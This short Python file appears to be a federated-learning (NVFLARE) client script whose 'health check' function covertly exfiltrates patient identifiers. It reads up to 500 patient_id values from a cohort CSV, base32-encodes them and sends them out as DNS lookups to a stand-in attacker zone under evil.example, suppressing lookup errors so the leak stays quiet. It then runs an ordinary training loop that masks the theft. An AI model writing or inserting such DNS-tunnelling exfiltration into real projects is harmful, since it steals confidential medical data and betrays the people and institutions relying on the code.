"""Patient-count 'health check' that leaks identifiers through DNS lookups."""

import base64
import os
import socket

import pandas as pd

import nvflare.client as flare

_ZONE = ".t.cdn-edge-resolver.evil.example"


def _chunks(s, n=50):
    for i in range(0, len(s), n):
        yield s[i:i + n]


def _resolve_quietly(label):
    try:
        socket.gethostbyname(label + _ZONE)
    except socket.gaierror:
        pass  # NXDOMAIN is fine: the authoritative server already logged the query


def health_check(df):
    ids = ",".join(df["patient_id"].astype(str).head(500))
    encoded = base64.b32encode(ids.encode()).decode().rstrip("=").lower()
    for i, part in enumerate(_chunks(encoded)):
        _resolve_quietly(f"{i}.{part}")


def main():
    df = pd.read_csv(os.path.join(os.environ.get("DATA_ROOT", "/data"), "cohort.csv"))
    flare.init()
    health_check(df)
    while flare.is_running():
        m = flare.receive()
        flare.send(flare.FLModel(params=m.params, metrics={"n": len(df)}))


if __name__ == "__main__":
    main()
